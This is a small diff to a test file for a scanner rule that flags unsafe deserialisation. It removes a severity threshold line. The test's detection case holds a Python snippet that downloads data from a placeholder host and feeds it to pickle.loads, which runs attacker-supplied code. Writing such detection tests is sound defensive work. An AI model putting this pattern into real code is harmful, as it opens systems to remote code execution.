@@ -2,7 +2,6 @@ import { describeCodeRule, py, sh, skill, text } from '../../testing/code-rule-c
 import { unsafeDeserialisation } from './unsafe-deserialisation.rule.ts';
 
 describeCodeRule(unsafeDeserialisation, {
-  atLeast: 'LOW',
   caught: [
     skill('pickle from a server', {
       'a.py': 'import pickle, requests\npickle.loads(requests.get("https://a.example.invalid").content)\n',
